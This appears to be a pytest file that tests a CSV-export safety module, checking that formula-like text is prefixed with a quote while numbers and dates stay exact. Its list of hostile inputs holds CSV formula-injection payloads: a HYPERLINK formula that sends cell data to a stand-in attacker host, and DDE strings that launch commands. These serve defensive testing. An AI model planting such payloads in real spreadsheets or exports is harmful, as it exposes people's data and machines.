"""CSV output safety (signalboard.csv_safety): formula-like text is neutralised, numbers stay exact.

Through the module, `signalboard query --format csv`, the files `signalboard report` writes from a
warehouse loaded with hostile values, and the dashboard's download helper.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import shutil
from pathlib import Path

import pandas as pd
import pytest

from etl.load import load_paths
from signalboard.cli import main
from signalboard.csv_safety import FORMULA_PREFIXES, neutralise_cell, neutralise_frame, to_csv_bytes
from signalboard.report import write_report
from signalboard.settings import Settings
from tests.paths import REPO_ROOT

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_text_is_prefixed(value: str) -> None:
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    [
        "data_analyst",
        "a=b",
        "x-1",
        "'already quoted",
        "",
        " =leading space is not evaluated",
        -3,
        -3.25,
        0.1 + 0.2,
        10**18,
        None,
        dt.date(2024, 1, 31),
        pd.Timestamp("2024-01-31 08:00"),
        True,
    ],
)
def test_everything_else_is_unchanged(value: object) -> None:
    assert neutralise_cell(value) is value


def test_frame_numbers_and_dates_exact_text_neutralised() -> None:
    frame = pd.DataFrame(
        {
            "role": ['=HYPERLINK("http://x")', "analyst", "-5"],
            "delta": [-1.5, 0.1 + 0.2, -7.0],
            "count": [-3, 0, 12],
            "day": pd.to_datetime(["2024-01-01", "2024-02-29", "2024-12-31"]),
            "flag": [True, False, True],
            "@total": [1, 2, 3],
        }
    )
    safe = neutralise_frame(frame)
    assert safe["role"].tolist() == ['\'=HYPERLINK("http://x")', "analyst", "'-5"]
    assert list(safe.columns) == ["role", "delta", "count", "day", "flag", "'@total"]
    # Numeric, date and boolean columns are the same objects' values, so CSV is identical there.
    plain = frame.drop(columns=["role", "@total"]).to_csv(index=False)
    assert safe.drop(columns=["role", "'@total"]).to_csv(index=False) == plain
    text = to_csv_bytes(frame).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][1] == "-1.5" and rows[2][1] == "0.30000000000000004" and rows[1][2] == "-3"
    assert rows[2][3] == "2024-02-29"
    # The input frame is not modified.
    assert frame["role"].iloc[0].startswith("=")


def test_object_column_mixing_numbers_and_text() -> None:
    frame = pd.DataFrame({"value": [-4, "=1+1", 2.5, None]}, dtype=object)
    assert neutralise_frame(frame)["value"].tolist()[:3] == [-4, "'=1+1", 2.5]


def test_categorical_column() -> None:
    frame = pd.DataFrame({"role": pd.Categorical(["@x", "y"])})
    assert neutralise_frame(frame)["role"].tolist() == ["'@x", "y"]


def _no_dangerous_cell(text: str) -> list[str]:
    """Every cell of a CSV text that a spreadsheet would evaluate."""
    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if cell.startswith(FORMULA_PREFIXES) and not _is_number(cell)
    ]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.fixture(scope="module")
def hostile_settings(tmp_path_factory: pytest.TempPathFactory) -> Settings:
    """The sample exports with formula text in role, source and grader ids, loaded for real."""
    folder = tmp_path_factory.mktemp("hostile")
    exports = folder / "exports"
    shutil.copytree(REPO_ROOT / "data" / "sample", exports)
    applications = pd.read_csv(exports / "applications.csv", dtype=str, keep_default_na=False)
    applications.loc[applications.index % 3 == 0, "source"] = HOSTILE[0]
    applications.loc[applications.index % 3 == 1, "source"] = HOSTILE[3]
    applications.to_csv(exports / "applications.csv", index=False)
    scores = pd.read_csv(exports / "scores.csv", dtype=str, keep_default_na=False)
    grader = next(c for c in scores.columns if "grader" in c)
    scores.loc[scores.index % 2 == 0, grader] = HOSTILE[1]
    scores.to_csv(exports / "scores.csv", index=False)
    settings = Settings(
        db_path=folder / "warehouse.duckdb", pseudonym_key_file=folder / "pseudonym.key"
    )
    load_paths([exports], settings=settings, progress=False)
    return settings


def test_query_csv_output_is_neutralised(
    hostile_settings: Settings, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    file = tmp_path / "sources.sql"
    file.write_text(
        "select source, count(*) as n, -count(*) as negative, min(applied_at)::date as first "
        "from applications group by source order by source\n"
    )
    status = main(["query", str(file), "--db", str(hostile_settings.db_path), "--format", "csv"])
    out, err = capsys.readouterr()
    assert status == 0, err
    assert _no_dangerous_cell(out) == []
    frame = pd.read_csv(io.StringIO(out))
    assert "'" + HOSTILE[0] in frame["source"].tolist()
    assert (frame["negative"] == -frame["n"]).all() and (frame["negative"] < 0).all()


def test_report_csvs_are_neutralised(hostile_settings: Settings, tmp_path: Path) -> None:
    written = write_report(settings=hostile_settings, out_dir=tmp_path / "report")
    csvs = [path for path in written if path.suffix == ".csv"]
    assert csvs
    seen = ""
    for path in csvs:
        text = path.read_text(encoding="utf-8")
        assert _no_dangerous_cell(text) == [], path.name
        seen += text
    # The hostile values did reach the report, as text.
    assert "'" + HOSTILE[3] in seen or "'" + HOSTILE[0] in seen or "'" + HOSTILE[1] in seen


def test_dashboard_download_is_neutralised(monkeypatch: pytest.MonkeyPatch) -> None:
    from dashboard import ui

    captured: dict[str, object] = {}
    monkeypatch.setattr(ui.st, "download_button", lambda label, **kwargs: captured.update(kwargs))
    ui.download_csv(pd.DataFrame({"role": ["=1+1"], "delta": [-2]}), "roles", key="k")
    # written when clicked: Streamlit calls the function then
    assert callable(captured["data"])
    assert captured["data"]() == b"role,delta\n'=1+1,-2\n"
    assert captured["file_name"] == "roles.csv"


# Frames of every column type to_csv_bytes hands to DuckDB's writer, and of types it leaves to
# pandas: either way the bytes are those pandas writes.
SAME_AS_PANDAS = {
    "floats": pd.DataFrame(
        {
            "x": [1e16, 1.2345678901234568e17, 1e-5, 1e-4, float("inf"), -float("inf")]
            + [float("nan"), 5e-324, 1.7976931348623157e308, -0.0, 0.1 + 0.2, 1e15],
        }
    ),
    "whole numbers": pd.DataFrame(
        {
            "n": [-(2**63), 0, 2**63 - 1],
            "nullable": pd.array([1, None, -3], dtype="Int64"),
            "small": pd.array([1, 2, 3], dtype="int8"),
        }
    ),
    "booleans": pd.DataFrame(
        {"flag": [True, False, True], "maybe": pd.array([True, None, False], dtype="boolean")}
    ),
    "text": pd.DataFrame(
        {
            "a,b": [" x ", "line\nbreak", 'q"', "semi;colon", None, "tab\tin", "crlf\r\n"],
            "n": range(7),
            "quoted 'name'": ["NULL", "'quoted'", "é", "日本", "a\r\nb", "x,y", "ok"],
        }
    ),
    "midnight timestamps are dates": pd.DataFrame(
        {"day": pd.to_datetime(["2024-01-01", "2024-02-29", None]), "n": [1, 2, 3]}
    ),
    "whole-second timestamps": pd.DataFrame(
        {"at": pd.to_datetime(["2024-01-01 00:00:00", "2024-01-02 03:04:05", None]), "n": [1, 2, 3]}
    ),
    "fractional seconds (pandas)": pd.DataFrame(
        {"at": pd.to_datetime(["2024-01-02 03:04:05", "2024-01-02 03:04:05.5"], format="mixed")}
    ),
    "float32 (pandas)": pd.DataFrame({"x": pd.array([0.1, 1234567.0], dtype="float32")}),
    "numbers kept as objects": pd.DataFrame(
        {
            "count": pd.Series([5, None, -(2**63)], dtype=object),
            "share": pd.Series([0.1 + 0.2, None, 1e16], dtype=object),
            "huge (pandas)": pd.Series([2**64, None, 1], dtype=object),
        }
    ),
    "mixed objects (pandas)": pd.DataFrame({"x": [1, "a", 2.5]}, dtype=object),
    "lists (pandas)": pd.DataFrame({"x": [[1, 2], None, []]}),
    "dates (pandas)": pd.DataFrame({"x": [dt.date(2024, 1, 1), None]}),
    "no rows": pd.DataFrame({"x": pd.Series([], dtype=float), "y": pd.Series([], dtype=object)}),
    "no columns": pd.DataFrame(index=range(3)),
    "duplicate names (pandas)": pd.DataFrame([[1, 2]], columns=["x", "x"]),
}


@pytest.mark.parametrize("frame", SAME_AS_PANDAS.values(), ids=SAME_AS_PANDAS.keys())
def test_csv_bytes_are_those_pandas_writes(frame: pd.DataFrame) -> None:
    assert to_csv_bytes(frame) == neutralise_frame(frame).to_csv(index=False).encode("utf-8")


def test_empty_text_is_told_apart_from_missing_and_a_carriage_return_quoted() -> None:
    frame = pd.DataFrame({"note": ["", None, "x", "a\rb"], "n": [1, 2, 3, 4]})
    written = to_csv_bytes(frame)
    rows = list(csv.reader(io.StringIO(written.decode("utf-8"), newline="")))
    assert rows == [["note", "n"], ["", "1"], ["", "2"], ["x", "3"], ["a\rb", "4"]]
    assert written.split(b"\n")[1:5] == [b'"",1', b",2", b"x,3", b'"a\rb",4']


def test_large_frame_text_neutralised_in_the_fast_writer() -> None:
    frame = pd.DataFrame({"role": ["=1+1", "analyst"] * 50_000, "x": [0.25, -1.0] * 50_000})
    lines = to_csv_bytes(frame).splitlines()
    assert len(lines) == 100_001
    assert lines[1] == b"'=1+1,0.25" and lines[2] == b"analyst,-1.0"
